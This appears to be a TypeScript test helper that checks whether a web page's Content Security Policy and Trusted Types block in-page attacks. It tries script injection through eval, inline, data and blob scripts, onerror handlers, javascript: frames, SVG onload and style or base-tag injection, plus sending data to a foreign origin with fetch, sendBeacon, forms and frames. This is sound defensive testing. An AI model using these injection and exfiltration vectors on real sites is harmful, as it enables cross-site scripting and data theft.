// What a script that should not be there would try, from inside the page, where only the policy stands in its way.
// Each gives whether it got through.

const mark = 'attackWorked';
const code = `globalThis.${mark} = true`;
const worked = () => Reflect.get(globalThis, mark) === true;

/** Long enough for anything inline to have run: two turns of the page's own loop and a frame. */
async function settle(): Promise<void> {
  for (let turn = 0; turn < 2; turn += 1) {
    await new Promise((resolve) => {
      requestAnimationFrame(() => setTimeout(resolve));
    });
  }
}

function add<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  values: Partial<HTMLElementTagNameMap[Name]>,
): void {
  document.body.append(Object.assign(document.createElement(name), values));
}

async function attempt(action: () => unknown): Promise<boolean> {
  try {
    await action();
  } catch {
    // Thrown at by Trusted Types, or refused by the policy: both are what should happen.
  }
  await settle();
  return worked();
}

/** Whether a resource came in. */
function arrives(element: HTMLElement, start: () => void): Promise<boolean> {
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve(true));
    element.addEventListener('error', () => resolve(false));
    try {
      start();
      document.body.append(element);
    } catch {
      resolve(false);
    }
  });
}

const textColour = () => getComputedStyle(document.querySelector('#text') ?? document.body).color;

async function restyles(action: () => void): Promise<boolean> {
  const before = textColour();
  try {
    action();
  } catch {
    // refused
  }
  await settle();
  return textColour() !== before;
}

const attempts = {
  evaluate: () =>
    attempt(() => {
      const evaluate = Reflect.get(globalThis, 'eval') as (text: string) => unknown; // what it is in every browser
      return evaluate(code);
    }),
  makeFunction: () => attempt(() => Reflect.construct(Function, [code])()),
  timerText: () => attempt(() => Reflect.apply(setTimeout, globalThis, [code, 0])),
  inlineScript: () => attempt(() => add('script', { textContent: code })),
  dataScript: () => attempt(() => add('script', { src: `data:text/javascript,${code}` })),
  blobScript: () =>
    attempt(() => add('script', { src: URL.createObjectURL(new Blob([code], { type: 'text/javascript' })) })),
  foreignScript: (origin: string) => attempt(() => add('script', { src: `${origin}/script.js` })),
  importForeign: (origin: string) => attempt(() => import(/* @vite-ignore */ `${origin}/script.js`)),
  handlerAttribute: () =>
    attempt(() => {
      const image = document.createElement('img');
      image.setAttribute('onerror', code);
      image.src = '/no-such-image.png';
      document.body.append(image);
    }),
  markup: () =>
    attempt(() => {
      document.body.insertAdjacentHTML('beforeend', `<img src="/no-such-image.png" onerror="${code}">`);
    }),
  scriptAddress: () =>
    attempt(() => add('iframe', { src: `javascript:${code.replace('globalThis', 'parent')}` })),
  worker: () =>
    attempt(async () => {
      const worker = new Worker(
        URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })),
      );
      await new Promise((resolve) => {
        worker.addEventListener('error', resolve);
        worker.addEventListener('message', () => resolve(Reflect.set(globalThis, mark, true)));
      });
    }),
  trustedPolicy: () =>
    attempt(() => {
      const types = Reflect.get(globalThis, 'trustedTypes') as {
        createPolicy: (name: string, rules: object) => { createScript: (text: string) => string };
      }; // Chromium has it
      const policy = types.createPolicy('attack', { createScript: (text: string) => text });
      add('script', { textContent: policy.createScript(code) });
    }),
  styleTag: () => restyles(() => add('style', { textContent: '#text { color: rgb(200, 0, 0) }' })),
  styleTagWithGuess: () =>
    restyles(() =>
      add('style', { nonce: '__STYLE_NONCE__', textContent: '#text { color: rgb(200, 0, 0) }' }),
    ),
  styleAttribute: () =>
    restyles(() => document.querySelector('#text')?.setAttribute('style', 'color: rgb(200, 0, 0)')),
  foreignStyle: (origin: string) => {
    const link = document.createElement('link');
    return arrives(link, () => Object.assign(link, { rel: 'stylesheet', href: `${origin}/style.css` }));
  },
  foreignImage: (origin: string) => {
    const image = document.createElement('img');
    return arrives(image, () => Object.assign(image, { src: `${origin}/image.svg` }));
  },
  drawingWithScript: () =>
    attempt(async () => {
      const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script></svg>`;
      const image = document.createElement('img');
      await arrives(image, () =>
        Object.assign(image, { src: `data:image/svg+xml,${encodeURIComponent(drawing)}` }),
      );
    }),
  foreignFetch: async (origin: string) => {
    try {
      await fetch(`${origin}/take?names=all`, { mode: 'no-cors', method: 'POST', body: 'everything' });
      return true;
    } catch {
      return false;
    }
  },
  foreignBeacon: async (origin: string) => {
    navigator.sendBeacon(`${origin}/take`, 'everything');
    await settle();
    return false; // the foreign server tells whether it came
  },
  foreignForm: async (origin: string) => {
    const form = Object.assign(document.createElement('form'), { action: `${origin}/take`, method: 'post' });
    document.body.append(form);
    form.submit();
    await settle();
    return false; // the foreign server tells whether it came
  },
  foreignFrame: async (origin: string) => {
    add('iframe', { src: `${origin}/frame` });
    await settle();
    return false; // the foreign server tells whether it came
  },
  base: async (origin: string) => {
    document.head.append(Object.assign(document.createElement('base'), { href: `${origin}/` }));
    return document.baseURI.startsWith(origin);
  },
} as const;

export type Attack = keyof typeof attempts;

/**
 * Tries one, from the page's own loop: what a test runs by itself may evaluate code in spite of the policy, and so may
 * everything it calls directly.
 */
export function attack(name: Attack, foreignOrigin: string): Promise<boolean> {
  return new Promise((resolve) => {
    setTimeout(() => resolve(attempts[name](foreignOrigin)));
  });
}
